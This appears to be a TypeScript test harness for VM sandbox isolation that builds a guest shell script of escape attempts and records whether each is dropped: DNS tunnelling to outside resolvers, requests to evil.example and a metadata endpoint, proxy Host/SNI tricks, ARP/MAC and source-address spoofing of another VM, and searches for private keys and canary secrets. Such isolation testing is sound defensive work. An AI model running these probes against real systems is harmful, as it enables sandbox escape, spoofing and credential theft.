import dnsPacket from "dns-packet"

/** One escape attempt as the guest saw it: the tool's exit code and what came back. */
export interface Attempt {
  readonly attempt: string
  readonly code: string
  readonly detail: string
}

export interface ProbeTarget {
  readonly name: string
  /** As it goes in a URL: an IPv4 address, $GW (the guest's gateway) or [v6%25eth0]. */
  readonly host: string
  readonly port: number
}

export interface ProbeParams {
  /** Host ports (TCP / UDP) of the node's netns to try, by address as the guest can name them. */
  readonly tcp: ReadonlyArray<ProbeTarget>
  readonly udp: ReadonlyArray<ProbeTarget>
  readonly bHost: string
  readonly bGuest: string
  readonly bProxyTcp: ReadonlyArray<number>
  /** The host end's IPv6 link-local address (EUI-64 of the fixed host MAC). */
  readonly hostLinkLocal: string
  readonly hostMac: string
  readonly v6Bait: string
  readonly otherBait: string
  readonly metadata: string
  /** Names that carry data out by being looked up (DNS tunnelling). */
  readonly tunnelNames: ReadonlyArray<string>
  /** A UDP flow the host keeps open to VM B (host address:port, B's port): the guest forges B's replies. */
  readonly bFlow: { readonly host: string; readonly port: number; readonly bPort: number }
}

/** `printf` text (octal escapes) of a length-prefixed DNS-over-TCP TXT query for `name`. */
const tcpDnsQuery = (name: string): string =>
  [...dnsPacket.streamEncode({
    type: "query",
    id: 4242,
    flags: dnsPacket.RECURSION_DESIRED,
    questions: [{ type: "TXT", name }],
  })].map((b) => `\\${b.toString(8).padStart(3, "0")}`).join("")

/** DNS rcode of a hex-dumped DNS-over-TCP answer (2-byte length, then the header). */
export const tcpDnsRcode = (hex: string): number | undefined =>
  hex.length >= 12 ? parseInt(hex.slice(11, 12), 16) : undefined

/**
 * The guest workload: every escape attempt, one JSON line each (`{"attempt","code","detail"}`),
 * then a dump of everything a workload can read (env, processes, /proc, kernel cmdline, dmesg,
 * files). Probes that should be dropped run concurrently with short timeouts; probes that expect
 * an answer from the proxy run with long ones so a busy TCG guest cannot turn them into timeouts.
 */
export const escapeScript = (p: ProbeParams): string => {
  const tcpDrops = [
    ...p.tcp.map((t) =>
      t.host.startsWith("[") ? `tcp ${t.name} 'http://${t.host}:${t.port}/' &` : `conn ${t.name} ${t.host} ${t.port} &`
    ),
    `conn othervm-ssh ${p.bGuest} 22 &`,
    `conn othervm-listener ${p.bGuest} 8080 &`,
    `conn raw-ip-22 1.1.1.1 22 &`,
    `conn raw-ip-853 8.8.8.8 853 &`,
    `conn raw-ip-8080 93.184.216.34 8080 &`,
    `conn linklocal-22 169.254.1.1 22 &`,
  ]
  const udpDrops = [
    ...p.udp.map((t) =>
      t.host.startsWith("[") ? `udp ${t.name} '${t.host}' ${t.port} &` : `tftp1 ${t.name} ${t.host} ${t.port} &`
    ),
    `udp raw-ip-udp-123 8.8.8.8 123 &`,
    `udp raw-ip-udp-443 1.1.1.1 443 &`,
    `udp othervm-udp-69 ${p.bGuest} 69 &`,
  ]
  const tunnel = p.tunnelNames.flatMap((name, i) => [
    `dns dns-tunnel-a-${i} ${name} &`,
    `dns dns-tunnel-txt-${i} ${name} 8.8.8.8 -type=txt &`,
  ])
  return `
GW=$(ip route | awk '/default/ {print $3}')
echo "gw=$GW"
mkdir -p /tmp/p
clean() { tr -d '\\000-\\037"\\\\' | cut -c1-400; }
rec() { n=$1; c=$2; shift 2; printf '{"attempt":"%s","code":"%s","detail":"%s"}\\n' "$n" "$c" "$(printf '%s' "$*" | clean)"; }
# tcp NAME URL [curl args]: code = curl's exit (28 = nothing answered, i.e. dropped)
tcp() { n=$1; u=$2; shift 2
  h=$(curl -g -sS -m 4 -o /tmp/p/$n.b -w '%{http_code}' "$@" "$u" 2>/tmp/p/$n.e); c=$?
  rec "$n" "$c" "http=$h body=$(head -c 160 /tmp/p/$n.b 2>/dev/null) err=$(cat /tmp/p/$n.e)"; }
# conn NAME IP PORT: a bare TCP connect with busybox nc (static: far cheaper than curl under TCG)
conn() { out=$(timeout 6 nc -w 4 $2 $3 </dev/null 2>&1); rec "$1" "$?" "nc $out"; }
# tftp1 NAME IP PORT: one UDP datagram (busybox tftp), given up after 4 s
tftp1() { out=$(timeout 4 tftp -g -l /tmp/p/$1.t -r escape-probe $2 $3 2>&1); rec "$1" "$?" "tftp $out"; }
# ask NAME URL [curl args]: a request the proxy must answer (long timeout; status, headers, body)
ask() { n=$1; u=$2; shift 2
  h=$(curl -g -sS -m 20 -D /tmp/p/$n.h -o /tmp/p/$n.b -w '%{http_code}' "$@" "$u" 2>/tmp/p/$n.e); c=$?
  rec "$n" "$c" "http=$h hdr=$(grep -i -e '^location' -e '^x-paws' /tmp/p/$n.h 2>/dev/null | tr '\\r\\n' '  ') body=$(head -c 200 /tmp/p/$n.b 2>/dev/null) err=$(cat /tmp/p/$n.e)"; }
# udp NAME IP PORT: one TFTP datagram (curl); the host-side bait records what arrives
udp() { out=$(curl -g -sS -m 4 "tftp://$2:$3/escape-probe" 2>&1); rec "$1" "$?" "$out"; }
# dns NAME QNAME [SERVER] [-type=T]
dns() { n=$1; q=$2; s=$3; t=$4; out=$(nslookup $t "$q" $s 2>&1); rec "$n" "$?" "$out"; }

echo phase=controls
# --- positive controls: the allowed paths work from this guest ---
ask ctl-https-api https://api.test/ctl -H 'x-api-key: guest-made-up'
dns ctl-dns-api api.test
rec ctl-v6-guest-linklocal 0 "$(ip -6 addr show dev eth0)"

# --- IPv6 set-up: a routed address, and the host's neighbours pinned so packets really leave ---
echo 0 > /proc/sys/net/ipv6/conf/eth0/accept_dad
ip -6 addr add fd77::2/64 dev eth0
ip -6 neigh replace ${p.v6Bait} lladdr ${p.hostMac} dev eth0 nud permanent
ip -6 neigh replace ${p.hostLinkLocal} lladdr ${p.hostMac} dev eth0 nud permanent
ip route add 169.254.0.0/16 dev eth0
rec ctl-v6-guest-routed 0 "$(ip -6 addr show dev eth0 | grep fd77)"

echo phase=drops
# --- everything that must be dropped, concurrently ---
${tcpDrops.join("\n")}
${udpDrops.join("\n")}
dns dns-port-5353 api.test $GW:5353 &
{ ping -c 2 -W 2 $GW >/dev/null 2>&1; rec icmp-host $?; } &
{ ping -c 2 -W 2 ${p.bGuest} >/dev/null 2>&1; rec icmp-othervm $?; } &
{ ping6 -c 2 -W 2 -I eth0 ff02::1 >/tmp/p/v6all 2>&1; rec v6-allnodes $? "$(cat /tmp/p/v6all)"; } &
wait

echo phase=proxy
# --- what the proxy must answer (and refuse); in batches: each curl's TLS costs ~2 s of the
# 1-vCPU TCG guest, and a dozen at once outlast the proxy's 15 s handshake+headers limit ---
ask plain-http-allowlisted http://api.test/plain-probe -H 'x-api-key: guest-plain' &
ask host-web-80 http://$GW/ &
ask host-web-443 https://$GW/ -k &
ask raw-ip-80 http://93.184.216.34/ &
wait
ask raw-ip-443 https://93.184.216.34/ -k &
ask metadata-80 http://${p.metadata}/latest/meta-data/ &
ask metadata-443 https://${p.metadata}/ -k &
ask unlisted-host https://evil.example/ --resolve evil.example:443:$GW &
wait
ask sni-host-mismatch https://api.test/mismatch-probe -H 'Host: echo.test' &
ask sni-host-mismatch-rev https://echo.test/mismatch-probe -H 'Host: api.test' &
ask absolute-form https://api.test/ --request-target https://echo.test/abs-probe &
ask connect-https-proxy https://echo.test/connect-probe -p -x https://api.test:443 --proxy-cacert /etc/ssl/certs/ca-certificates.crt &
wait
ask connect-http-proxy https://echo.test/connect-probe -p -x http://api.test:80 &
ask forge-header-other-host https://echo.test/forge-probe -H 'x-api-key: guest-forged' &
wait
out=$(printf 'CONNECT echo.test:443 HTTP/1.1\\r\\nHost: echo.test:443\\r\\n\\r\\n' | nc -w 4 api.test 80 2>&1 | head -c 200)
rec connect-raw-80 $? "$out"

echo phase=dns
# --- DNS: own proxy only, NXDOMAIN for everything else, nothing forwarded ---
dns ctl-dns-other-resolver api.test 8.8.8.8 &
dns dns-unlisted evil.example &
dns dns-unlisted-other-resolver evil.example 1.1.1.1 &
dns dns-unlisted-host-ip evil.example ${p.otherBait} &
${tunnel.join("\n")}
wait
hex=$(printf '${tcpDnsQuery(p.tunnelNames[0]!)}' | nc -w 4 $GW 53 | hexdump -v -e '/1 "%02x"')
rec dns-tunnel-tcp $? "$hex"

echo phase=spoof
# --- ARP/MAC spoofing. 1: a new MAC plus gratuitous ARP claiming the host's and VM B's addresses.
# The host's neighbour entry for the guest is permanent, so nothing comes back to the new MAC:
# not even its own proxy answers. 2: the real MAC again, VM B's address as an alias, used as source. ---
ORIG=$(cat /sys/class/net/eth0/address)
ip link set dev eth0 address 52:54:00:66:66:66
# arping binds its source address: nonlocal binds let it announce one the guest does not hold. (Holding the
# gateway's address would route the guest's own SSH replies to itself, resetting a cold-booted guest's channel.)
echo 1 > /proc/sys/net/ipv4/ip_nonlocal_bind
garp() { arping $3 -c 2 -I eth0 -s $2 $2 >/dev/null 2>&1; rec $1 $?; }
garp spoof-garp-host $GW -U
garp spoof-garp-othervm ${p.bGuest} -U
garp spoof-garp-otherhost ${p.bHost} -A
conn spoof-mac-rpc $GW 7711 &
conn spoof-mac-otherhost-rpc ${p.bHost} 7711 &
conn spoof-mac-othervm ${p.bGuest} 8080 &
tcp spoof-mac-proxy https://$GW/ -k &
wait
ip link set dev eth0 address $ORIG
ip addr add ${p.bGuest}/32 dev eth0
ask ctl-spoof-src-normal https://api.test/spoof-ctl &
tcp spoof-src-proxy https://api.test/spoof-src --interface ${p.bGuest} &
tcp spoof-src-rpc http://$GW:7711/ --interface ${p.bGuest} &
tcp spoof-src-otherhost-rpc http://${p.bHost}:7711/ --interface ${p.bGuest} &
${
    p.bProxyTcp.map((port) => `tcp spoof-src-otherproxy-${port} http://${p.bHost}:${port}/ --interface ${p.bGuest} &`)
      .join("\n")
  }
wait
# B's address and port as the source, towards the host's end of a flow the host keeps open with B:
# conntrack sees B's reply (established), the firewall must still see a packet from the wrong VM.
# (busybox nc has no UDP; curl's TFTP read request is a UDP datagram from --interface:--local-port.)
curl -s --max-time 3 --interface ${p.bGuest} --local-port ${p.bFlow.bPort} tftp://${p.bFlow.host}:${p.bFlow.port}/forged-by-A
rec spoof-src-established-udp $? ""
ip addr del ${p.bGuest}/32 dev eth0
ask ctl-after-spoof https://api.test/after-spoof

echo phase=files
# --- the CA: its certificate is here, its private key nowhere; the credential nowhere ---
rec ctl-ca-cert-present "$(grep -c 'BEGIN CERTIFICATE' /usr/local/share/ca-certificates/paws-proxy-ca.crt)" ""
printf '%s\\n' "$VISIBLE" > /root/visible.txt
sync
PAT=$(printf '%s%s' 'can' 'ary-[0-9a-f]\\{32\\}')
KEY=$(printf '%s%s' 'BEGIN.*PRIV' 'ATE KEY') # split: this script itself must not match
# Everywhere a workload or the node writes (the read-only system dirs are the image's own files).
find /etc /root /tmp /run /var /home /workload /output /usr/local /mnt -type f 2>/dev/null \\
  | xargs grep -l -e "$KEY" -e "$PAT" -e "$VISIBLE" 2>/dev/null > /tmp/p/found
xargs grep -l "$KEY" < /tmp/p/found > /tmp/p/keys
rec fs-private-key "$(wc -l < /tmp/p/keys)" "$(cat /tmp/p/keys)"
rec fs-canary "$(xargs grep -l "$PAT" < /tmp/p/found | wc -l)" "$(xargs grep -l "$PAT" < /tmp/p/found)"
rec ctl-fs-visible "$(xargs grep -l "$VISIBLE" < /tmp/p/found | wc -l)" "$(xargs grep -l "$VISIBLE" < /tmp/p/found)"

echo "--- guest view ---"
env; ps; cat /proc/cmdline; dmesg
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $f; done 2>/dev/null
find /etc /root /tmp /workload /output /usr/local /var /home /run -type f -exec cat {} + 2>/dev/null
echo "--- end ---"
`
}

/** The attempts' JSON lines from the workload's stdout, by name. */
export const parseAttempts = (stdout: string): ReadonlyMap<string, Attempt> =>
  new Map(
    stdout.split("\n").filter((l) => l.startsWith(`{"attempt":`)).map((l) => {
      const a = JSON.parse(l) as Attempt
      return [a.attempt, a] as const
    }),
  )
